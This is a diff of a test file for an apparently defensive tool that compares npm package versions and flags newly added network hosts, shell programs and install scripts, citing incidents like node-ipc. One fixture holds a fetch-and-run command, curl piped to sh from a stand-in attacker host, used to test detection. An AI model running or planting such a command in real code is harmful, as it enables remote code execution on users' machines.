@@ -41,7 +41,8 @@ test('ua-parser-js 2021: a new preinstall runs a script that downloads and start
 
 test('node-ipc 2022: a geolocation lookup to a host hidden in base64', () => {
   const facts = byKey(change('ipc-like'));
-  expect([...facts.keys()].sort()).toEqual(['network:host:api.geolocate-ip.io', 'network:module:https']);
+  // The old version already networked (\`net\`), so \`https\` is the same capability; the new host is what is new.
+  expect([...facts.keys()].sort()).toEqual(['network:host:api.geolocate-ip.io']);
   expect(facts.get('network:host:api.geolocate-ip.io')).toMatchObject({ file: 'dao/ssl-geospec.js', line: 4 });
   expect(facts.get('network:host:api.geolocate-ip.io')!.detail).toContain('hidden in the source as base64');
 });
@@ -120,4 +121,62 @@ test('outgrowing the review limits is high when new, silent when the old version
   expect(grown).toEqual([expect.objectContaining({ key: 'tarball-anomaly:too-large', severity: 'high', detail: expect.stringContaining('one way to hide it') })]);
   const alwaysBig = packageFrom({ 'package.json': '{"name":"p"}', 'index.js': 'module.exports = 1;' }, [tooLarge]);
   expect(analyzeCodeChange(alwaysBig, big, 'registry')).toEqual([]);
+});
+
+describe('"new" means new to the package: capabilities, not API names or files', () => {
+  const pkg = (files: Record<string, string>) => packageFrom({ 'package.json': '{"name":"p","version":"1.0.0"}', ...files });
+  const keysOf = (before: Record<string, string>, after: Record<string, string>) =>
+    analyzeCodeChange(pkg(before), pkg(after), 'registry').map((f) => f.key).sort();
+
+  test('execSync -> execFileSync, https -> http, require -> import, code moved to another file: nothing new', () => {
+    const old = { 'lib/index.js': "const cp = require('child_process'); const https = require('https');\ncp.execSync('npm config get registry'); https.get(u);" };
+    expect(keysOf(old, { 'lib/index.js': "const cp = require('child_process'); cp.execFileSync('npm', ['config', 'get', 'registry']);", 'lib/net.js': "const http = require('node:http'); http.get(u);" })).toEqual([]);
+    expect(keysOf(old, { 'dist/index.mjs': "import { execFileSync } from 'node:child_process';\nimport { get } from 'node:https';\nexecFileSync('npm', ['view']); get(u);" })).toEqual([]);
+    // fetch and a network module are one capability as well.
+    expect(keysOf(old, { 'lib/index.js': "const cp = require('child_process'); cp.execSync('npm -v'); fetch(u);" })).toEqual([]);
+  });
+
+  test('napi-postinstall: a package that ran npm and yarn now runs pnpm (same family of program): nothing new', () => {
+    const old = { 'lib/index.js': "const cp = require('node:child_process');\ncp.execSync(`npm install ${pkg}@${version}`);\ncp.execSync(`yarn add -D ${pkg}`);" };
+    expect(keysOf(old, { ...old, 'lib/fallback.js': "const c = require('node:child_process');\n(0, c.execFileSync)('pnpm', ['i', bindingPkg], { stdio: 'inherit' });" })).toEqual([]);
+  });
+
+  test('a new target is new: a program of another family, where the package already ran programs', () => {
+    const old = { 'index.js': "require('child_process').execSync('ldd --version');" };
+    const found = analyzeCodeChange(pkg(old), pkg({ ...old, 'fallback.js': "const cp = require('node:child_process');\ncp.execFileSync('pnpm', ['i', bindingPkg], {\n  stdio: 'inherit',\n});" }), 'registry');
+    expect(found.map((f) => f.key)).toEqual(['shell:program:pnpm']);
+    expect(found[0]).toMatchObject({ file: 'fallback.js', line: 2, evidence: "cp.execFileSync('pnpm', ['i', bindingPkg], {\nstdio: 'inherit',\n});" });
+    expect(keysOf(old, { ...old, 'x.js': "require('child_process').exec('curl -s https://dl.evil-host.io/x | sh');" })).toEqual(['network:host:dl.evil-host.io', 'shell:program:curl']);
+  });
+
+  test('where starting programs is itself new, one shell finding says so, evidence at the call (rollup spawnSync)', () => {
+    const found = analyzeCodeChange(
+      pkg({ 'dist/native.js': "const { existsSync } = require('node:fs');" }),
+      pkg({ 'dist/native.js': "const { existsSync } = require('node:fs');\nconst { spawnSync } = require('node:child_process');\nconst child = spawnSync(process.execPath, ['-p', script], { encoding: 'utf8' });" }),
+      'registry',
+    );
+    expect(found.map((f) => f.key).sort()).toEqual(['shell:child_process.spawnSync', 'shell:module:child_process']);
+    expect(found.every((f) => f.line === 3 && f.evidence!.startsWith('const child = spawnSync('))).toBe(true);
+  });
+});
+
+describe('install scripts: new when the command changes, not when only the package\'s own version does', () => {
+  const withScript = (version: string, postinstall: string) =>
+    packageFrom({ 'package.json': JSON.stringify({ name: 'unrs-resolver', version, scripts: { postinstall } }, null, 2), 'index.js': 'module.exports = 1;' });
+
+  test('unrs-resolver: napi-postinstall unrs-resolver 1.7.11 check -> 1.11.1 check is the same script', () => {
+    expect(analyzeCodeChange(withScript('1.7.11', 'napi-postinstall unrs-resolver 1.7.11 check'), withScript('1.11.1', 'napi-postinstall unrs-resolver 1.11.1 check'), 'registry')).toEqual([]);
+  });
+
+  test('npx tool@1.2.3 -> npx tool@6.6.6 is new, and says what it changed from', () => {
+    const [fact, ...rest] = analyzeCodeChange(withScript('1.2.3', 'npx tool@1.2.3'), withScript('1.2.4', 'npx tool@6.6.6'), 'registry');
+    expect(rest).toEqual([]);
+    expect(fact).toMatchObject({ key: 'install-script:postinstall:npx tool@6.6.6', severity: 'high' });
+    expect(fact!.detail).toBe('The `postinstall` script changed from `npx tool@1.2.3` and now runs `npx tool@6.6.6` on every install of this package, before any of its code is imported.');
+  });
+
+  test('a script added where there was none does not claim a change', () => {
+    const [fact] = analyzeCodeChange(packageFrom({ 'package.json': '{"name":"p","version":"1.0.0"}' }), withScript('1.0.1', 'node setup.js'), 'registry');
+    expect(fact!.detail).toMatch(/^The `postinstall` script runs `node setup.js`/);
+  });
 });
